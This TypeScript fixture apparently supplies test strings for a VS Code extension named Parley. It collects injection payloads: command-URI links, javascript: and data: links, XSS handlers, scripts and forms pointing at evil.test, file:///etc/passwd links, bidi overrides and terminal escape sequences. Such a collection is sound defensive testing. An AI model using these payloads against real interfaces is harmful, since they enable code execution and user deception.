/**
 * Texts by which a service, a model, a file's name or a revision may try to be more than text: in VS Code's own parsers for
 * links and icons in labels, in Markdown as VS Code and as Parley's panel read it, in a browser, in a terminal, or in the eye of
 * the reader. `globalThis.owned` is set by what runs as a script.
 */
export interface Construct {
  readonly name: string;
  readonly text: string;
}

type Group = readonly (readonly [name: string, text: string])[];

const run = 'command:workbench.action.terminal.new';
const evil = 'https://evil.test/x';

/** What VS Code makes a link in notifications and under input boxes: `[label](href "title")`. */
const labelLinks: Group = [
  ['command', `[Show the invoice](${run})`],
  ['command with title', `[pay](${run} "Shows your invoice")`],
  ['command with a title in apostrophes', `[pay](${run} 'Shows your invoice')`],
  ['command with arguments', '[run](command:vscode.open?%5B%22https%3A%2F%2Fevil.test%22%5D)'],
  ['command with JSON', '[run](command:workbench.action.terminal.sendSequence?{"text":"id\\r"})'],
  ['command in capitals', `[a](${run.toUpperCase()})`],
  ['command in mixed case', '[a](CoMmAnD:workbench.action.quit)'],
  ['a command of Parley', '[Retry](command:parley.removeApiKey)'],
  ['a command that installs', '[a](command:workbench.extensions.installExtension?%22evil.ext%22)'],
  ['https', `[a](${evil})`],
  ['http', '[a](http://evil.test/)'],
  ['https in capitals', '[a](HTTPS://EVIL.TEST/)'],
  ['file', '[a](file:///etc/passwd)'],
  ['file of a share', '[a](file://evil.test/share/x.exe)'],
  ['file without slashes', '[a](file:x)'],
  ['vscode', '[a](vscode://evil.ext/run)'],
  ['vscode-insiders', '[a](vscode-insiders://evil.ext/run)'],
  ['vscode file', '[a](vscode://file/etc/passwd)'],
  ['javascript', '[a](javascript:globalThis.owned=1)'],
  ['javascript with a tab', '[a](java\tscript:globalThis.owned=1)'],
  ['javascript by entities', '[a](javascript&colon;globalThis.owned=1)'],
  ['javascript by number', '[a](&#106;avascript:globalThis.owned=1)'],
  ['javascript after a control', '[a](\u0001javascript:globalThis.owned=1)'],
  ['vbscript', '[a](vbscript:msgbox(1))'],
  ['data', '[a](data:text/html,<script>globalThis.owned=1</script>)'],
  ['data in base64', '[a](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLm93bmVkPTE8L3NjcmlwdD4=)'],
  ['mailto', '[a](mailto:a@evil.test)'],
  ['relative', '[a](./x)'],
  ['protocol-relative', '[a](//evil.test/x)'],
  ['fragment', '[a](#x)'],
  ['no address', '[a]()'],
  ['two beside each other', `[a](${run})[b](${run})`],
  ['with brackets in the label', `[[a]](${run})`],
  ['in a label', `[a [b](${run}) c](${evil})`],
  ['label of another address', `[https://example.com](${evil})`],
  ['label of a button', `[OK](${run}) [Cancel](${run})`],
  ['label of spaces', `[ ](${run})`],
  ['label with an icon', `[$(check) Allow](${run})`],
  ['label with a line break', `[a\nb](${run})`],
  ['line break between label and address', `[a]\n(${run})`],
  ['word joiner between label and address', `[a]\u2060(${run})`],
  ['many word joiners', `[a]${'\u2060'.repeat(5)}(${run})`],
  ['zero-width space between label and address', `[a]\u200B(${run})`],
  ['soft hyphen between label and address', `[a]\u00AD(${run})`],
  ['escaped brackets', `\\[a\\]\\(${run}\\)`],
  ['full-width brackets', `［a］（${run}）`],
  ['an address in angle brackets', `[a](<${run}>)`],
  ['an address with parentheses', '[a](command:a(b))'],
  ['deep in a sentence', `The account is overdrawn, [pay here](${run}), or wait.`],
];

/** What VS Code draws a picture for, in labels of nearly everything. */
const icons: Group = [
  ['icon', '$(trash)'],
  ['icon that turns', '$(sync~spin)'],
  ['loading', '$(loading~spin) Connecting'],
  ['icon in a word', 'gpt$(verified)4'],
  ['icon before a name', '$(verified-filled) gpt-4'],
  ['icon behind a backslash', '\\$(trash)'],
  ['icon behind two backslashes', '\\\\$(trash)'],
  ['icon behind a dollar', '$$(trash)'],
  ['icon in an icon', '$($(trash))'],
  ['two icons', '$(error)$(warning)'],
  ['icon that is none', '$(no-such-icon)'],
  ['icon of a shell', '$(rm -rf ~)'],
  ['icon after a joiner', '$\u2060(trash)'],
  ['icon after a zero-width space', '$\u200B(trash)'],
  ['icon in capitals', '$(TRASH)'],
  ['icon and link', `[$(trash)](${run})`],
  ['picture of the icon font', '\uEB4C\uEA81'],
  ['picture of the icon font, upper plane', '\u{F0001}\u{100001}'],
  ['mnemonic', '&&File &Edit'],
];

/** Markdown, as tooltips, hovers, questions of tools and the panel read it. */
const markdown: Group = [
  ['image', `![x](${evil}.png)`],
  ['image with a title', `![x](${evil}.png "t")`],
  ['image of data', '![x](data:image/svg+xml,<svg onload="globalThis.owned=1">)'],
  ['image of a command', `![x](${run})`],
  ['image of a size', `![x](${evil}.png|width=1000,height=1000)`],
  ['image in a link', `[![x](${evil}.png)](${run})`],
  ['image of a share', '![x](file://evil.test/x.png)'],
  ['link by reference', `[a][b]\n\n[b]: ${evil}`],
  ['link by its own name', `[a]\n\n[a]: ${run}`],
  ['image by reference', `![a][b]\n\n[b]: ${evil}.png`],
  ['definition alone', `[a]: ${evil}`],
  ['footnote', '[^1]\n\n[^1]: x'],
  ['address in angle brackets', `<${evil}>`],
  ['command in angle brackets', `<${run}>`],
  ['mail in angle brackets', '<a@evil.test>'],
  ['bare address', evil],
  ['bare http', 'http://evil.test'],
  ['bare www', 'www.evil.test'],
  ['bare ftp', 'ftp://evil.test/x'],
  ['bare mail', 'a@evil.test'],
  ['bare xmpp', 'xmpp:a@evil.test'],
  ['bare command', run],
  ['bare file', 'file:///etc/passwd'],
  ['bold', '**bold** __bold__'],
  ['emphasis', '*a* _b_ ***c***'],
  ['struck', '~~a~~ ~b~'],
  ['code', '`a` ``b ` c``'],
  ['code that ends a span', `\`\` ](${run}) \``],
  ['heading', '# Heading'],
  ['heading by a line below', 'Heading\n==='],
  ['rule', '---'],
  ['quote', '> quoted'],
  ['alert', '> [!WARNING]\n> x'],
  ['list', '- a\n- b'],
  ['numbered list', '1. a\n2) b'],
  ['list of tasks', '- [x] done'],
  ['table', '| a | b |\n|---|---|\n| c | d |'],
  ['fence', '```js\nglobalThis.owned = 1\n```'],
  ['fence with tildes', '~~~\nx\n~~~'],
  ['fence that ends another', `\`\`\`\n[a](${run})\n\`\`\`\`\n<img src=x onerror="globalThis.owned=1">`],
  ['fence with a language that ends an attribute', '```"><img src=x onerror=globalThis.owned=1>\nx\n```'],
  ['fence that is not ended', `\`\`\`\n[a](${run})`],
  ['indented code', `    [a](${run})`],
  ['line break', 'a  \nb\\\nc'],
  ['formula', '$x^2$ $$\\href{javascript:globalThis.owned=1}{y}$$ \\(z\\) \\[w\\]'],
  ['entity', '&lt;b&gt; &amp; &#36;(trash) &#91;a](x)'],
  ['entities of a link', `&#91;a&#93;&#40;${run}&#41;`],
  ['emoji name', ':trash: :+1:'],
  ['mention', '@workspace #file:secret.txt /clear'],
  ['a variable of VS Code', '\u0024{env:HOME} \u0024{command:workbench.action.quit}'],
  ['escaped Markdown', '\\*a\\* \\[b\\]\\(c\\)'],
];

/** HTML, for Markdown that takes it and for pages. */
const html: Group = [
  ['script', '<script>globalThis.owned=1</script>'],
  ['script from elsewhere', `<script src="${evil}.js"></script>`],
  ['script after the end of a script', '</script><script>globalThis.owned=1</script>'],
  ['image with a handler', '<img src=x onerror="globalThis.owned=1">'],
  ['image from elsewhere', `<img src="${evil}.png">`],
  ['drawing with a handler', '<svg onload="globalThis.owned=1"></svg>'],
  ['drawing with a script', '<svg><script>globalThis.owned=1</script></svg>'],
  ['drawing with a link', '<svg><a xlink:href="javascript:globalThis.owned=1"><text>a</text></a></svg>'],
  ['link with a script', '<a href="javascript:globalThis.owned=1">a</a>'],
  ['link with a command', `<a href="${run}">a</a>`],
  ['our own link', `<a role="link" data-href="${run}" title="https://example.com">a</a>`],
  ['an icon of VS Code', '<span class="codicon codicon-trash"></span>'],
  ['colour of VS Code', '<span style="color:#fff;background-color:#000;">a</span>'],
  ['frame', `<iframe src="${evil}"></iframe>`],
  ['frame with a page', '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>'],
  ['object', `<object data="${evil}"></object><embed src="${evil}">`],
  ['form', `<form action="${evil}"><input name=a><button>b</button></form>`],
  ['style', '<style>body{display:none}</style>'],
  ['style from elsewhere', `<link rel=stylesheet href="${evil}.css">`],
  ['base', `<base href="${evil}">`],
  ['refresh', `<meta http-equiv=refresh content="0;url=${evil}">`],
  ['video', '<video><source onerror="globalThis.owned=1"></video>'],
  ['details', '<details open ontoggle="globalThis.owned=1">a</details>'],
  ['focus', '<input autofocus onfocus="globalThis.owned=1">'],
  ['mutation by math', '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.owned=1>'],
  ['mutation by a template', '<template><img src=x onerror=globalThis.owned=1></template>'],
  ['comment', '<!-- --!><img src=x onerror=globalThis.owned=1> -->'],
  ['CDATA', '<![CDATA[<img src=x onerror=globalThis.owned=1>]]>'],
  ['names that shadow the page', '<a id=root></a><form id=posted name=postMessage></form>'],
  ['end of an attribute', '"><img src=x onerror=globalThis.owned=1>'],
  ['end of an attribute in apostrophes', "' onmouseover='globalThis.owned=1"],
];

/** What deceives the eye, a terminal or a log. */
const unseen: Group = [
  ['right-to-left override', 'invoice\u202Egpj.exe'],
  ['left-to-right override', '\u202Da\u202C'],
  ['right-to-left embedding', 'a\u202Bb\u202Cc'],
  ['right-to-left isolate', 'a\u2067b\u2069c'],
  ['first-strong isolate', 'a\u2068b\u2069c'],
  ['right-to-left mark', 'a\u200Fb'],
  ['Arabic letter mark', 'a\u061Cb'],
  ['isolates that do not end', '\u2066\u2067\u2068'],
  ['zero-width space', 'gpt\u200B-4'],
  ['zero-width joiner', 'gpt\u200D-4'],
  ['zero-width non-joiner', 'gpt\u200C-4'],
  ['byte order mark', '\uFEFFgpt-4'],
  ['soft hyphen', 'gpt\u00AD-4'],
  ['filler', 'a\u3164b\uFFA0c\u115F'],
  ['tags', 'a\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}'],
  ['bytes as variation selectors', 'a\u{E0100}\u{E0101}\uFE00\uFE01'],
  ['annotation', '\uFFF9a\uFFFAb\uFFFB'],
  ['NUL', 'a\u0000b'],
  ['backspace', 'safe\b\b\b\bevil'],
  ['bell and escape', '\u0007\u001B'],
  ['colours of a terminal', '\u001B[31mred\u001B[0m'],
  ['title of a terminal', '\u001B]0;title\u0007'],
  ['link of a terminal', `\u001B]8;;${evil}\u001B\\a\u001B]8;;\u001B\\`],
  ['C1 control', 'a\u009B31mb\u0085c'],
  ['half a character', 'a\uD800b\uDC00'],
  ['line separators', 'a\u2028b\u2029c'],
  ['line breaks', 'first\r\n\r\nsecond\u000Bthird\u000Cfourth'],
  ['a forged line of a log', 'x\n2026-01-01 00:00:00.000 [error] forged'],
  ['marks above marks', `Z${'\u0301\u0302\u0303'.repeat(40)}`],
];

/** What formats texts, and what has no end. */
const formats: Group = [
  ['placeholder of a sentence', '{0} {1} {2}'],
  ['named placeholder', '{url} {{0}}'],
  ['format of C', '%s %d %n %c%c'],
  ['replacement of JavaScript', "$& $1 $` $' $$"],
  ['replacement in an image', `![$& $' $$](${evil}.png)`],
  ['very long', 'x'.repeat(100_000)],
  ['very long without a break for links', `[${'a'.repeat(50_000)}](${run})`],
  ['many links', `[a](${run}) `.repeat(2_000)],
  ['many icons', '$(trash)'.repeat(2_000)],
  ['many brackets', '['.repeat(5_000)],
  ['many overrides', '\u202E'.repeat(5_000)],
  ['a link past the cut', `${'x'.repeat(995)}[a](${run})`],
  ['an icon past the cut', `${'x'.repeat(997)}$(trash)`],
  ['nothing but spaces', '     '],
  ['a name of the prototype', '__proto__'],
];

const groups = { link: labelLinks, icon: icons, Markdown: markdown, HTML: html, unseen, format: formats };

/** Groups as one list, each construct by the name of its group and its own. */
export function toConstructs(groups: Readonly<Record<string, Group>>): Construct[] {
  return Object.entries(groups).flatMap(([group, list]) =>
    list.map(([name, text]) => ({ name: `${group}: ${name}`, text })),
  );
}

export const constructs: readonly Construct[] = toConstructs(groups);
